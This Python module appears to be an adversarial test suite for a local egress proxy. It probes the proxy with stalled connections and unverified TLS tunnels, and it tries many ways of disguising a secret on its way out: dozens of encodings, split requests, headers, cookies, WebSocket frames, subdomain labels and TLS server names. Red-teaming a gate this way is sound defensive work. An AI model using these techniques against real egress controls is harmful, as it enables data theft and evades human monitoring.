"""Attacks on the egress gate: requests without one reading, other hosts in a tunnel, and secrets on their way out in disguise."""

from __future__ import annotations

import base64
import binascii
import codecs
import gzip
import html
import json
import os
import socket
import ssl
import urllib.parse
import zlib
from typing import Callable

GATE = ("127.0.0.1", 3128)
SECONDS = 8.0
HEAD_LIMIT = 1 << 16


def dial() -> socket.socket:
    """A connection to the gate."""
    return socket.create_connection(GATE, timeout=SECONDS)


def answer_of(channel: socket.socket) -> tuple[str, bytes]:
    """The status of the next answer and all that follows: `closed` when none comes, `dropped` when the connection is cut."""
    said = b""
    try:
        while len(said) < HEAD_LIMIT:
            part = channel.recv(HEAD_LIMIT)
            if not part:
                break
            said += part
            head, found, body = said.partition(b"\r\n\r\n")
            length = [int(row.split(b":")[1]) for row in head.lower().split(b"\r\n") if row.startswith(b"content-length:")]
            if found and len(body) >= (length[0] if length else 0):
                break
    except socket.timeout:
        return "no answer", said
    except OSError:
        if not said:
            return "dropped", said
    if not said:
        return "closed", said
    words = said.split(b"\r\n")[0].split()
    return (words[1].decode("latin-1") if len(words) > 1 and words[0].startswith(b"HTTP/") else "not HTTP"), said


def shown(outcome: tuple[str, bytes]) -> tuple[str, str]:
    """The status, and the reason in the gate's own words."""
    status, said = outcome
    try:
        return status, str(json.loads(said.partition(b"\r\n\r\n")[2])["reason"])
    except (ValueError, KeyError, TypeError):
        return status, said[:60].decode("latin-1")


def send(channel: socket.socket, content: bytes) -> None:
    """All of it, or as much as the gate takes before it answers."""
    try:
        channel.sendall(content)
    except OSError:
        return


def tunnel(host: str, port: int = 443) -> socket.socket:
    """A tunnel as the gate gives it; an OSError with its status when it does not."""
    channel = dial()
    authority = "[%s]:%d" % (host, port) if ":" in host else "%s:%d" % (host, port)
    channel.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (authority, authority)).encode())
    said = b""
    while b"\r\n\r\n" not in said:
        part = channel.recv(4096)
        if not part:
            break
        said += part
    status = said.split(b" ")[1].decode() if said.startswith(b"HTTP/") else "closed"
    if status != "200":
        raise Refused(status)
    return channel


class Refused(Exception):
    """The gate gave no tunnel."""


def context() -> ssl.SSLContext:
    """What trusts anybody: an attacker does not care."""
    made = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    made.check_hostname = False
    made.verify_mode = ssl.CERT_NONE
    return made


def in_tunnel(host: str, raw: str, name: str = "", port: int = 443) -> tuple[str, str]:
    """These bytes inside TLS inside a tunnel to the host; `name` is another server name for TLS."""
    try:
        channel = tunnel(host, port)
    except Refused as refused:
        return str(refused), "to CONNECT"
    with channel, context().wrap_socket(channel, server_hostname=name or host) as secured:
        send(secured, raw.encode("latin-1"))
        return shown(answer_of(secured))


def to_proxy(raw: str) -> tuple[str, str]:
    """These bytes to the gate itself."""
    with dial() as channel:
        send(channel, raw.encode("latin-1"))
        return shown(answer_of(channel))


def not_tls(host: str, raw: str) -> tuple[str, str]:
    """These bytes in a tunnel, without TLS."""
    with tunnel(host) as channel:
        send(channel, raw.encode("latin-1"))
        return shown(answer_of(channel))


def many(host: str, raw: str, wanted: int) -> tuple[str, str]:
    """Several requests at once on one connection: what the last of them is answered."""
    with tunnel(host) as channel, context().wrap_socket(channel, server_hostname=host) as secured:
        send(secured, raw.encode("latin-1"))
        said = ""
        for _ in range(wanted):
            said = shown(answer_of(secured))[0]
    return said, ""


def slow(host: str, path: str, connections: int) -> tuple[str, str]:
    """Connections that begin and never end, and meanwhile one that is in order."""
    held = []
    for number in range(connections):
        channel = dial()
        channel.sendall(b"CONNECT %s:443 HTTP/1.1\r\nHo" % host.encode() if number % 2 else b"G")
        held.append(channel)
    status, _ = in_tunnel(host, "GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (path, host))
    for channel in held:
        channel.close()
    return ("goes on" if status == "200" else "stuck"), status


def unicode_escapes(text: bytes) -> bytes:
    """As JSON and JavaScript write any character."""
    return b"".join(b"\\u%04x" % byte for byte in text)


ENCODINGS: dict[str, Callable[[bytes], bytes]] = {
    "plain": bytes,
    "base64": base64.b64encode,
    "base64-url": lambda text: base64.urlsafe_b64encode(text).rstrip(b"="),
    "base64-offset": lambda text: base64.b64encode(b"x" + text),
    "base64-lines": lambda text: base64.encodebytes(text * 3),
    "base64-twice": lambda text: base64.b64encode(base64.b64encode(text)),
    "base32": base64.b32encode,
    "base85": base64.b85encode,
    "ascii85": base64.a85encode,
    "hex": binascii.hexlify,
    "hex-upper": lambda text: binascii.hexlify(text).upper(),
    "hex-dashes": lambda text: b"-".join(b"%02x" % byte for byte in text),
    "hex-c": lambda text: b"".join(b"\\x%02x" % byte for byte in text),
    "percent": lambda text: b"".join(b"%%%02X" % byte for byte in text),
    "percent-twice": lambda text: urllib.parse.quote(b"".join(b"%%%02X" % byte for byte in text)).encode(),
    "json": unicode_escapes,
    "html": lambda text: b"".join(b"&#%d;" % byte for byte in text),
    "html-named": lambda text: html.escape(text.decode()).encode(),
    "decimal": lambda text: b",".join(b"%d" % byte for byte in text),
    "quoted-printable": lambda text: b"".join(b"=%02X" % byte for byte in text),
    "backwards": lambda text: text[::-1],
    "base64-backwards": lambda text: base64.b64encode(text[::-1]),
    "rot13": lambda text: codecs.encode(text.decode(), "rot13").encode(),
    "utf-16": lambda text: text.decode().encode("utf-16"),
    "utf-32": lambda text: text.decode().encode("utf-32"),
    "blanks": lambda text: b" ".join(text[at : at + 1] for at in range(len(text))),
    "dots": lambda text: b".".join(text[at : at + 1] for at in range(len(text))),
    "zero-width": lambda text: b"\xe2\x80\x8b".join(text[at : at + 2] for at in range(0, len(text), 2)),
    "lower": bytes.lower,
    "gzip": gzip.compress,
    "gzip-base64": lambda text: base64.b64encode(gzip.compress(text)),
    "zlib": zlib.compress,
    "zlib-hex": lambda text: binascii.hexlify(zlib.compress(text)),
    "padded": lambda text: os.urandom(1 << 16) + text + os.urandom(1 << 16),
}


def leak(host: str, path: str, secret: str, encoding: str) -> tuple[str, str]:
    """The secret in this encoding, in a body."""
    return post(host, path, ENCODINGS[encoding](secret.encode()))


def post(host: str, path: str, body: bytes, more: bytes = b"") -> tuple[str, str]:
    """One request with a body."""
    head = b"POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: text/plain\r\nContent-Length: %d\r\nConnection: close\r\n%s\r\n"
    return in_tunnel(host, (head % (path.encode(), host.encode(), len(body), more) + body).decode("latin-1"))


def get(host: str, target: str, more: str = "") -> tuple[str, str]:
    """One request without."""
    return in_tunnel(host, "GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n%s\r\n" % (target, host, more))


def leak_in_place(host: str, path: str, secret: str, spot: str) -> tuple[str, str]:
    """The secret as it is, or lightly dressed, in another place than a body."""
    half = len(secret) // 2
    basic = base64.b64encode(b"user:" + secret.encode()).decode()
    places: dict[str, Callable[[], tuple[str, str]]] = {
        "path": lambda: get(host, path + "/" + urllib.parse.quote(secret, safe="")),
        "path-split": lambda: get(host, path + "/" + "/".join(secret[at : at + 4] for at in range(0, len(secret), 4))),
        "query": lambda: get(host, path + "?q=" + urllib.parse.quote(secret, safe="")),
        "query-hex": lambda: get(host, path + "?q=" + secret.encode().hex()),
        "query-split": lambda: get(host, "%s?a=%s&b=%s" % (path, secret[:half], secret[half:])),
        "query-names": lambda: get(host, "%s?%s=1" % (path, secret)),
        "header": lambda: get(host, path, "X-Trace: %s\r\n" % secret),
        "header-split": lambda: get(host, path, "X-One: %s\r\nX-Two: %s\r\n" % (secret[:half], secret[half:])),
        "header-name": lambda: get(host, path, "X-%s: 1\r\n" % secret.encode().hex()),
        "cookie": lambda: get(host, path, "Cookie: session=%s; theme=dark\r\n" % secret),
        "user-agent": lambda: get(host, path, "User-Agent: Mozilla/5.0 (%s)\r\n" % base64.b64encode(secret.encode()).decode()),
        "referer": lambda: get(host, path, "Referer: https://%s/%s\r\n" % (host, secret)),
        "basic": lambda: get(host, path, "X-Authorization: Basic %s\r\n" % basic),
        "form": lambda: post(host, path, ("a=1&b=" + urllib.parse.quote_plus(secret)).encode()),
        "form-fields": lambda: post(host, path, ("a=%s&b=%s" % (secret[:half], secret[half:])).encode()),
        "json": lambda: post(host, path, json.dumps({"a": [{"b": secret}]}).encode()),
        "json-split": lambda: post(host, path, json.dumps([secret[at : at + 8] for at in range(0, len(secret), 8)]).encode()),
        "multipart": lambda: multipart(host, path, secret),
        "chunks": lambda: chunked(host, path, secret),
        "coded-gzip": lambda: post(host, path, gzip.compress(secret.encode()), b"Content-Encoding: gzip\r\n"),
        "coded-unknown": lambda: post(host, path, secret[::-1].encode("utf-16"), b"Content-Encoding: x-own\r\n"),
        "last": lambda: post(host, path, b"x" * 700_000 + secret.encode()),
        "requests": lambda: in_pieces(host, path, secret),
        "websocket": lambda: websocket(host, path, secret),
        "host-label": lambda: get("%s.%s" % (secret.encode().hex()[:60], host), path),
        "tls-name": lambda: in_tunnel(
            host, "GET %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (path, host), name=secret.encode().hex()[:60] + ".example.com"
        ),
    }
    return places[spot]()


def multipart(host: str, path: str, secret: str) -> tuple[str, str]:
    """As the name of a file that is sent (RFC 7578)."""
    body = '--b\r\nContent-Disposition: form-data; name="f"; filename="%s.txt"\r\n\r\nx\r\n--b--\r\n' % secret
    return post(host, path, body.encode(), b"X-Type: multipart\r\n")


def chunked(host: str, path: str, secret: str) -> tuple[str, str]:
    """One character a chunk."""
    head = "POST %s HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n" % (path, host)
    return in_tunnel(host, head + "".join("1\r\n%s\r\n" % one for one in secret) + "0\r\n\r\n")


def in_pieces(host: str, path: str, secret: str) -> tuple[str, str]:
    """A third in each of three requests: what the last is answered, for without it the secret is not whole."""
    third = len(secret) // 3 + 1
    said = ("none", "")
    for number in range(3):
        piece = secret[number * third : (number + 1) * third]
        said = get(host, "%s-%d?part=%s" % (path, number, piece))
    return said


def websocket(host: str, path: str, secret: str) -> tuple[str, str]:
    """In a message of a WebSocket, masked as the protocol wants it (RFC 6455)."""
    head = "GET %s HTTP/1.1\r\nHost: %s\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"
    with tunnel(host) as channel, context().wrap_socket(channel, server_hostname=host) as secured:
        send(secured, (head % (path, host)).encode())
        status, said = answer_of(secured)
        if status != "101":
            return status, "to the upgrade"
        mask = os.urandom(4)
        send(
            secured,
            bytes([0x81, 0x80 | len(secret)]) + mask + bytes(byte ^ mask[at % 4] for at, byte in enumerate(secret.encode())),
        )
        said = secured.recv(1024)
    return ("ended" if not said or said[0] & 0xF == 8 else "went on"), repr(said[:20])
